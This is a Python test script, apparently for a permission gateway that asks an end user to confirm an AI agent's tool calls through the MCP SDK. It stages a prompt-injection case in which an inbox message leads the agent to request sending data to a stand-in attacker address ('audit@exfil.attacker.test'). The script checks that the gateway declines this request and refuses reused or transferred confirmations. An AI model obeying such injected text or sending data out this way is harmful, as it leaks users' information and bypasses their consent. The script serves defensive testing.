"""End-user confirmation with the official Python SDK's high-level `Client`:

  python confirm_flow.py MODE URL AGENT_TOKEN ASKED_FOR

MODE is `auto` (2026-07-28: jitgate answers with an input-required result
and the SDK retries with the answer) or `legacy` (a handshake session:
jitgate sends elicitation/create). The end user is scripted: they asked
their agent to write to ASKED_FOR, and confirm a question only when it is
about sending to that address; anything else they decline.

The task: read the inbox (third-party text), then send the summary to the
colleague a message named (a third-party value the user asked for: one
confirmation), then try what the injected message asks (declined). In
`auto` mode it also tries to reuse an answer for another request and twice.
Prints a JSON report.
"""

import asyncio
import json
import sys

import httpx2
import mcp.types as types
from mcp import Client
from mcp.client.streamable_http import streamable_http_client

from jit import answer, step

QUESTIONS = []


def end_user(asked_for):
    async def on_elicit(context, params):
        QUESTIONS.append(params.message)
        if f'"{asked_for}"' in params.message:
            return types.ElicitResult(action="accept", content={"confirm": True})
        return types.ElicitResult(action="decline")
    return on_elicit


async def run(client, mode, asked_for):
    report = {"protocol_version": client.protocol_version}
    begun = await client.call_tool("jit_begin_task", {
        "objective": f"Send Bob's colleague the Q3 summary he asked for ({asked_for})",
        "phases": [{"name": "read", "tools": ["workspace__read_inbox"]}, {"name": "reply", "tools": ["workspace__send_message"]}],
    })
    task = answer(begun)["task"]
    grant = await client.call_tool("jit_request", {"task": task, "tool": "workspace__read_inbox", "arguments": {}, "purpose": "find Bob's message"})
    inbox = await client.call_tool("workspace__read_inbox", {"_jit_token": answer(grant)["token"]})
    report["inbox_has_colleague"] = asked_for in step(inbox)["text"]
    await client.call_tool("jit_next_phase", {"task": task, "phase": "reply"})

    def send(to):
        return {"task": task, "tool": "workspace__send_message", "arguments": {"to": to, "subject": "Q3 summary", "body": "Here it is."}, "purpose": "send the summary"}

    granted = await client.call_tool("jit_request", send(asked_for))
    report["benign_request"] = step(granted)
    report["benign_questions"] = len(QUESTIONS)
    if not granted.is_error and "token" in answer(granted):
        sent = await client.call_tool("workspace__send_message", {"to": asked_for, "subject": "Q3 summary", "body": "Here it is.", "_jit_token": answer(granted)["token"]})
        report["benign_send"] = step(sent)

    attack = await client.call_tool("jit_request", send("audit@exfil.attacker.test"))
    report["attack_request"] = step(attack)
    asked_before = len(QUESTIONS)
    # Asking again does not wear the user down: the decline stands.
    report["attack_again"] = step(await client.call_tool("jit_request", send("audit@exfil.attacker.test")))
    report["asked_again"] = len(QUESTIONS) - asked_before
    report["questions"] = QUESTIONS

    if mode == "auto":
        # Drive the rounds by hand: an answer belongs to one request, once.
        yes = {"jitgate_confirm": {"action": "accept", "content": {"confirm": True}}}
        first = await client.session.call_tool("jit_request", send(asked_for), allow_input_required=True)
        report["manual_first"] = str(getattr(first, "result_type", ""))
        # A client jitgate does not ask gets no question back: an answer it
        # sends anyway names a question that does not exist.
        state = getattr(first, "request_state", None) or "q_unasked"
        ok = await client.session.call_tool("jit_request", send(asked_for), input_responses=yes, request_state=state, allow_input_required=True)
        report["manual_answer"] = step(ok)
        again = await client.session.call_tool("jit_request", send(asked_for), input_responses=yes, request_state=state, allow_input_required=True)
        report["answer_used_twice"] = step(again)
        second = await client.session.call_tool("jit_request", send(asked_for), allow_input_required=True)
        # Another request the user never declined (a decline is checked first).
        other = await client.session.call_tool("jit_request", send("dana@acme.example"), input_responses=yes, request_state=getattr(second, "request_state", None) or "q_unasked", allow_input_required=True)
        report["answer_for_another_request"] = step(other)
    return report


async def main():
    mode, url, agent_token, asked_for = sys.argv[1:5]
    http = httpx2.AsyncClient(headers={"Authorization": f"Bearer {agent_token}"}, timeout=httpx2.Timeout(30, read=300))
    server = streamable_http_client(url, http_client=http)
    async with Client(server, mode=mode, cache=None, elicitation_callback=end_user(asked_for)) as client:
        report = await run(client, mode, asked_for)
    print(json.dumps(report))


if __name__ == "__main__":
    asyncio.run(main())
